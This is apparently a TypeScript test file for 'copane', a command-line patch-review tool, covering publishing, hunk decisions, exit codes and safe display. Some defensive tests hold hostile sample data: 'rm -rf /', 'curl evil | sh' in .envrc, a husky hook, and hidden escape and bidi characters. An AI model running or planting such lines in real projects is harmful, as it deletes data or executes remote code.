/** The review from scripts: data on stdout, messages on stderr, and an exit code for each outcome. */
import { spawnSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { envBelow, runCli } from '../../helpers/cli.ts';
import { git, makeFolder, makeRepository, patchTo, putTree, readText } from '../../helpers/git-fixture.ts';
import { COPANE } from '../../helpers/product.ts';
import { removeTree } from '../../helpers/remove-tree.ts';

const base = Array.from({ length: 20 }, (_, i) => `line ${i}\n`).join('');
const want = base.replace('line 3\n', 'three\n').replace('line 15\n', 'fifteen\n');

let root = '';
let home = '';

beforeEach(() => {
  root = makeRepository({ f: base });
  home = makeFolder();
  mkdirSync(path.join(home, 'run'), { mode: 0o700 });
});
afterEach(() => {
  for (const folder of [root, home]) removeTree(folder);
});

const copane = (args: readonly string[], input: string | Buffer = '') =>
  runCli(args, { cwd: root, env: envBelow(home), input });
const json = async (args: readonly string[], input: string | Buffer = '') =>
  JSON.parse((await copane([...args, '--json'], input)).out);

test('publish, show, decide, undo, redo, finish', async () => {
  const patch = path.join(home, 'p.diff');
  writeFileSync(patch, patchTo(root, { f: want }));
  const published = await copane([
    'publish',
    '--patch',
    patch,
    '--target',
    root,
    '--description',
    'Two edits',
    '--json',
  ]);
  expect(published.code).toBe(0);
  const { suggestion_id: id, hunks, ...rest } = JSON.parse(published.out);
  expect(rest).toMatchObject({ description: 'Two edits', status: 'pending', files: ['f'] });
  expect(hunks).toHaveLength(2);
  expect(hunks[0]).toMatchObject({
    file: 'f',
    kind: 'text',
    status: 'pending',
    diff: expect.stringContaining('+three'),
  });

  const accepted = await copane(['decide', id, hunks[0].id, 'accept', '--comment', 'good', '--json']);
  expect(JSON.parse(accepted.out)).toMatchObject({ id: hunks[0].id, status: 'accepted' });
  expect(readText(root, 'f')).toBe(base.replace('line 3\n', 'three\n'));

  const said = await copane([
    'decide',
    id,
    hunks[1].id,
    'comment',
    '--lines',
    '3-4',
    '--comment',
    'why\nso?',
    '--json',
  ]);
  expect(said.code).toBe(0);
  expect(JSON.parse(said.out)).toMatchObject({
    status: 'pending',
    comments: [
      { text: 'why\nso?', lines: { first: 3, last: 4 }, quote: expect.stringContaining('\n-line 15') },
    ],
  });
  const around = await copane([
    'decide',
    id,
    hunks[1].id,
    'comment',
    '--file-lines',
    '9-10',
    '--comment',
    'and here?',
    '--json',
  ]);
  expect(JSON.parse(around.out).comments.at(-1)).toEqual({
    text: 'and here?',
    file_lines: { side: 'new', first: 9, last: 10 },
    quote: ' line 8\n line 9',
  });
  for (const [action, ...flags] of [
    ['accept', '--file-lines', '9'],
    ['comment', '--comment', 'x', '--file-lines', '9', '--lines', '1'],
    ['comment', '--comment', 'x', '--file-lines', '900'],
  ])
    expect(await copane(['decide', id, hunks[1].id, action ?? '', ...flags])).toMatchObject({ code: 2 });
  expect((await copane(['decide', id, hunks[1].id, 'comment'])).code).toBe(2);
  const total = hunks[1].diff.trimEnd().split('\n').length - 1;
  for (const lines of ['0', '0-2', `1-${total + 1}`]) {
    const refused = await copane(['decide', id, hunks[1].id, 'comment', '--comment', 'x', '--lines', lines]);
    expect(refused).toMatchObject({ code: 2, err: expect.stringContaining(`The hunk has ${total} lines;`) });
  }
  expect(await json(['undo', id, hunks[0].id])).toMatchObject({
    status: 'pending',
  });
  expect(readText(root, 'f')).toBe(base);
  expect(await json(['redo', id.slice(0, 6), hunks[0].id.slice(0, 6)])).toMatchObject({
    status: 'accepted',
  });
  expect(await json(['decide', id, 'all', 'accept'])).toMatchObject({
    id: hunks[1].id,
  });
  expect(readText(root, 'f')).toBe(want);
  expect(await json(['show', id.slice(0, 6)])).toMatchObject({
    suggestion_id: id,
    status: 'complete',
  });
  expect((await copane(['suggestions'])).out).toContain('complete  2/2 decided, 1 file  Two edits');
  expect(await json(['finish', id, 'finalize'])).toMatchObject({
    status: 'finalized',
  });
  expect((await copane(['suggestions', '--json'])).out).toBe('[]\n');
});

test('suggestions counts by the current files, without a companion that looks', async () => {
  const { suggestion_id: id } = await json(['publish'], patchTo(root, { f: want }));
  await json(['decide', id, 'all', 'accept']);
  putTree(root, { f: base });
  expect((await copane(['suggestions'])).out).toContain('pending  0/2 decided');
  putTree(root, { f: want });
  expect((await copane(['suggestions'])).out).toContain('complete  2/2 decided');
});

test('the packed program: a patch on stdin, lines of a hunk, an edited diff, an exit code', () => {
  const packed = (args: readonly string[], input = '') => {
    const env = envBelow(home);
    const { status, stdout, stderr } = spawnSync(COPANE, args, { cwd: root, encoding: 'utf8', input, env });
    return { code: status, out: stdout, err: stderr };
  };
  const { suggestion_id: id, hunks } = JSON.parse(
    packed(['publish', '--json'], patchTo(root, { f: want })).out,
  );
  const lines = hunks[1].diff.split('\n').slice(1);
  const added = lines.indexOf('+fifteen') + 1;
  const part = packed(['decide', id, hunks[1].id, 'accept', '--lines', `${added}-${added}`, '--json']);
  expect(JSON.parse(part.out)).toMatchObject({ parent: hunks[1].id });
  expect(readText(root, 'f')).toBe(base.replace('line 15\n', 'line 15\nfifteen\n'));
  const edited = packed(
    ['decide', id, hunks[0].id, 'modify', '--diff', '-', '--json'],
    hunks[0].diff.replace('+three', '+drei'),
  );
  expect(JSON.parse(edited.out)).toMatchObject({ status: 'modified' });
  expect(readText(root, 'f')).toContain('line 2\ndrei\nline 4\n');
  const missing = { code: 4, out: '', err: expect.stringContaining('Suggestion not found: nope') };
  expect(packed(['decide', 'nope', 'all', 'accept'])).toMatchObject(missing);
});

test('exit codes: 2 bad input, 3 refused, 4 not found; always a reason on stderr', async () => {
  const { suggestion_id: id } = await json(['publish'], patchTo(root, { f: want }));
  putTree(root, { f: base.replaceAll('line 3\n', 'mine\n') });
  const cases: [readonly string[], string, number, RegExp][] = [
    [['publish', '--json'], 'not a diff', 2, /not a unified diff/],
    [['publish'], '--- /dev/null\n+++ b/../x\n@@ -0,0 +1 @@\n+x\n', 3, /leaves the root/],
    [['publish', '--patch', 'nope.diff'], '', 2, /cannot be read/],
    [['decide', id, 'all', 'accept'], '', 3, /Hunk/],
    [['decide', id, 'nope', 'accept'], '', 4, /Hunk not found: nope/],
    [['decide', id, 'all', 'burn'], '', 2, /burn/],
    [['show', 'nope', '--json'], '', 4, /Suggestion not found/],
    [['undo', id, 'all'], '', 3, /nothing to undo/],
    [['review', ''], '', 2, /^copane: The name of what to review is empty/],
    [['review', 'a', 'b', 'c'], '', 2, /Exactly two folders can be compared/],
  ];
  for (const [args, input, code, reason] of cases) {
    const run = await copane(args, input);
    expect({ args, code: run.code, err: run.err }).toEqual({
      args,
      code,
      err: expect.stringMatching(reason),
    });
  }
  expect(readText(root, 'f')).toBe(base.replaceAll('line 3\n', 'mine\n'));
});

test('a review of the working tree, in place', async () => {
  putTree(root, { f: want, new: 'n\n' });
  const { suggestion_id: id, in_place: inPlace, hunks } = await json(['review']);
  expect({ inPlace, hunks: hunks.length }).toEqual({ inPlace: true, hunks: 3 });
  expect((await copane(['decide', id, 'all', 'reject'])).code).toBe(0);
  expect(git(root, 'status', '--porcelain')).toBe('');
  expect((await copane(['undo', id, 'all'])).code).toBe(0);
  expect(readText(root, 'f')).toBe(want);
});

test('with very many hunks it prints the first, and where to find the others; a cut diff says so', async () => {
  const many = Array.from({ length: 150 * 20 }, (_, i) => `line ${i} ${'x'.repeat(1_500)}\n`);
  const edited = many.map((line, i) => (i % 20 === 10 ? `edited ${line}` : line));
  putTree(root, { many: many.join('') });
  git(root, 'add', 'many');
  git(root, 'commit', '-qm', 'many');
  putTree(root, { many: edited.join('') });
  const reviewed = await copane(['review']);
  const id = reviewed.out.trim();
  const said = reviewed.err.split('\n').filter((line) => line !== '');
  expect(said, reviewed.err).toHaveLength(102);
  expect(said.at(-2)).toBe(`… and 50 more: "copane show ${id}" prints them all`);
  expect(said.at(-1)).toContain('150 hunks');
  const shown = await copane(['show', id]);
  expect(shown.out.match(/^◌ /gm)).toHaveLength(150);
  expect(shown.out).not.toContain('too long to print');
  putTree(root, { many: null, f: `${'long '.repeat(400_000)}\n` });
  const long = await copane(['show', (await copane(['review', '--description', 'long'])).out.trim()]);
  expect(long.out).toMatch(/^\(too long to print here in full\)$/m);
});

test('reply answers the last comment or the named one, and decides nothing', async () => {
  const { suggestion_id: id, hunks } = await json(['publish'], patchTo(root, { f: want }));
  const hunk = hunks[0].id;
  const early = await copane(['reply', id, hunk, 'too early']);
  expect([early.code, early.err]).toEqual([3, expect.stringContaining('no comment on this hunk')]);
  for (const comment of ['first', 'second'])
    await copane(['decide', id, hunk, 'comment', '--comment', comment]);
  expect((await copane(['reply', id.slice(0, 6), hunk.slice(0, 6), 'to the second'])).code).toBe(0);
  const replied = await copane(['reply', id, hunk, 'to the\nfirst', '--to', '1']);
  expect(replied.out).toContain(
    '# comment: first\n  #   reply: to the\n  #   first\n  # comment: second\n  #   reply: to the second\n',
  );
  expect((await json(['show', id])).hunks[0]).toMatchObject({ status: 'pending', comments: { length: 4 } });
  for (const [code, ...args] of [
    [2, ''],
    [2, 'x', '--to', '0'],
    [4, 'x', '--to', '5'],
  ] as const)
    expect((await copane(['reply', id, hunk, ...args])).code, args.join(' ')).toBe(code);
});

/** Publishes `text` as the new `f` and shows it. */
async function shown(text: string, ...more: readonly string[]): Promise<string> {
  const bytes = Buffer.from(text).toString('latin1');
  const patch = Buffer.from(patchTo(root, { f: bytes }), 'latin1');
  const out = (await copane(['publish', '--json', ...more], patch)).out;
  return (await copane(['show', JSON.parse(out).suggestion_id])).out;
}

test('notes of a replaced review are named by its replacement', async () => {
  putTree(root, { f: want });
  const { id, hunks } = await json(['review']);
  await copane(['decide', id, hunks[0].id, 'reject', '--comment', 'keep the 3']);
  for (const name of ['new', 'newer']) {
    putTree(root, { [name]: 'x\n' });
    await copane(['review']);
  }
  expect((await copane(['review', '--notes'])).err).toContain(`copane review --notes ${id}`);
  expect((await copane(['review', '--notes', id])).out).toContain('keep the 3');
  expect((await copane(['reopen', id])).err).toMatch(
    /continues in another one.*A newer review took its place/s,
  );
});

test('show hides no line and no character, whatever a patch, its description and its notes hold', async () => {
  const hostile = [
    'before \u001b]0;never ended',
    'rm -rf / # seen',
    'fine\revil',
    'safe\b\b\b\bevil',
    'if (admin\u202e \u2066// check\u2069) \u3164 = 1',
    `ok();${' '.repeat(300)}evil();`,
    'می‌خواهم 👩🏽‍🚀',
  ];
  const description = 'Title \u001b[2J\u202e\nmore';
  const out = await shown(
    `${base}${hostile.join('\n')}\n`,
    '--description',
    description,
    '--note',
    'f=a \u001b[1A note',
  );
  expect(out).toContain('+before ␛]0;never ended\n+rm -rf / # seen\n+fine␍evil\n+safe␈␈␈␈evil\n');
  expect(out).toContain('+if (admin<202E> <2066>// check<2069>) <3164> = 1\n');
  expect(out).toContain('+می‌خواهم 👩🏽‍🚀\n');
  expect(out).toContain('Title ␛[2J<202E>\n');
  expect(out).toContain(
    '  ! 10 hidden characters: U+001B ESCAPE, U+000D CARRIAGE RETURN, U+0008 BACKSPACE (4), ',
  );
  expect(out).toContain('  ! Text far to the right, after 80 blanks or more, in line 26\n');
  const named = await json(['publish'], patchTo(root, { 'x\ny': 'z\n' }));
  expect((await copane(['show', named.suggestion_id])).out).toContain('  x␊y  create  pending\n');
  expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u3164]/);
});

test('show puts what the author says of a hunk above its diff, marked line by line', async () => {
  const note = 'f=why it is so\n\n+evil();\n@@ -1 +1 @@\n- \u202esafe';
  const out = await shown(want, '--note', note);
  const marked = ['  # why it is so', '  # +evil();', '  # @@ -1 +1 @@', '  # - <202E>safe'];
  expect(out).toContain(`  f  pending\n${marked.join('\n')}\n@@ `);
  const evil = out.split('\n').filter((line) => line.includes('evil'));
  expect(new Set(evil)).toEqual(new Set(['  # +evil();']));
});

test('all is accepted with files that run by themselves only when that is said', async () => {
  const patch = patchTo(root, { f: want, '.envrc': 'curl evil | sh\n', '.husky/pre-commit': 'evil\n' });
  const { suggestion_id: id, hunks } = await json(['publish'], patch);
  const running = hunks.filter(
    ({ warnings }: { warnings?: { kind: string }[] }) => warnings?.[0]?.kind === 'runs',
  );
  expect(running.map(({ file }: { file: string }) => file)).toEqual(['.envrc', '.husky/pre-commit']);

  const refused = await copane(['decide', id, 'all', 'accept']);
  expect(refused).toMatchObject({ code: 3, out: '' });
  expect(refused.err).toContain('.envrc and .husky/pre-commit run by themselves. Nothing was accepted.');
  expect(readText(root, 'f')).toBe(base);

  expect(await copane(['decide', id, 'all', 'accept', '--file', 'f'])).toMatchObject({ code: 0 });
  expect(await copane(['decide', id, 'all', 'accept', '--file', '.envrc'])).toMatchObject({
    code: 3,
    out: '',
  });
  expect(await copane(['decide', id, running[0].id, 'accept'])).toMatchObject({ code: 0 });
  expect(await copane(['decide', id, 'every', 'accept'])).toMatchObject({ code: 3 });
  expect(await copane(['decide', id, 'all', 'accept', '--accept-self-running'])).toMatchObject({ code: 0 });
  expect(readText(root, '.husky/pre-commit')).toBe('evil\n');
});

test('what a link leads to whose name runs is asked for like a file that runs', async () => {
  const patch = patchTo(root, { 'env/main.sh': 'curl evil | sh\n' });
  symlinkSync('env/main.sh', path.join(root, '.envrc'));
  const { suggestion_id: id } = await json(['publish'], patch);
  expect((await copane(['show', id])).out).toContain('as .envrc, which is a link to it');
  const refused = await copane(['decide', id, 'all', 'accept']);
  expect(refused).toMatchObject({ code: 3, out: '' });
  expect(refused.err).toContain('env/main.sh runs by itself. Nothing was accepted.');
  expect(await copane(['decide', id, 'all', 'accept', '--accept-self-running'])).toMatchObject({ code: 0 });
});

test('what is kept is purged by kind: what is finished at once, what is not when that is said', async () => {
  const { suggestion_id: open } = await json(['publish'], patchTo(root, { f: want }));
  const { suggestion_id: ended } = await json(['publish'], patchTo(root, { n: 'n\n' }));
  expect(await copane(['finish', ended, 'discard'])).toMatchObject({ code: 0 });
  const purge = async (...more: string[]) => (await json(['state', '--purge', 'reviews', ...more])) as object;
  expect(await purge()).toEqual({ kind: 'reviews', purged: 0, unfinished: 0 });
  expect(await purge('--older-than', '0')).toEqual({ kind: 'reviews', purged: 1, unfinished: 1 });
  expect((await copane(['show', ended])).code).toBe(4);
  expect((await copane(['show', open])).code).toBe(0);
  expect(await purge('--older-than', '0', '--unfinished')).toMatchObject({ purged: 1, unfinished: 0 });
  expect((await copane(['show', open])).code).toBe(4);
});
